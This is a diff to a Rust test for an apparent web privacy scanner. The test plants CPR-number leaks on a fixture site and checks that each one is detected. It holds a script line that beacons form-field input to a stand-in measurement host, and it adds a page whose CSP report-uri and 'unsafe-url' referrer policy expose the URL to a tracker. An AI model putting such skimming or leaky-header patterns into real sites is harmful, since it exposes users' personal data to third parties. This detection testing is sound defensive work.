@@ -93,7 +93,10 @@ fn site(received: &Received) -> Reply {
              navigator.sendBeacon('https://maaling.eksempel.test/c', 'felt=' + event.target.value))</script>"),
         ),
         "/sag" => {
-            let mut reply = page("Sag", "<p>Din sag").with_header("Referrer-Policy", "unsafe-url");
+            let policy = format!("img-src 'self'; report-uri https://{TRACKER}/csp");
+            let mut reply = page("Sag", "<p>Din sag<img src='https://billede.eksempel.test/p.gif'>")
+                .with_header("Referrer-Policy", "unsafe-url")
+                .with_header("Content-Security-Policy", &policy);
             reply.headers.retain(|(name, _)| name != "Cache-Control");
             reply
         }
@@ -129,6 +132,7 @@ fn every_rule_of_pages_is_found_where_it_is_planted() {
             "form-exfiltration",
             "cacheable-cpr-page",
             "referrer-policy-exposes-url",
+            "reporting-exposes-url",
         ];
         let mut told: Vec<String> = told
             .iter()
@@ -156,8 +160,16 @@ fn every_rule_of_pages_is_found_where_it_is_planted() {
         "form-exfiltration /skriv felt",
         "form-get-cpr /get find > cpr",
         "referrer-policy-exposes-url /sag referrer-policy",
+        "reporting-exposes-url /sag content-security-policy > maaling.eksempel.test",
     ];
     assert_eq!(of_pages, expected, "{told:#?}");
+    // The report that was sent is a leak to whoever got it.
+    let reported = |finding: &&serde_json::Value| {
+        finding["rule"] == "cpr-in-third-party-request" && text(&finding["parameter"]).contains("document-uri")
+    };
+    let reported = scan["findings"].as_array().and_then(|all| all.iter().find(reported)).expect("a report");
+    assert_eq!(text(&reported["channel"]), "body");
+    assert_eq!(text(&reported["recipient"]["domain"]), "eksempel.test");
     let exfiltrated = scan["findings"].as_array().and_then(|all| all.iter().find(|f| f["rule"] == "form-exfiltration"));
     let origin = exfiltrated.map(|finding| &finding["form"]);
     assert_eq!(origin.map(|origin| (&origin["form"], &origin["field"])), Some((&"skriv".into(), &"cpr".into())));
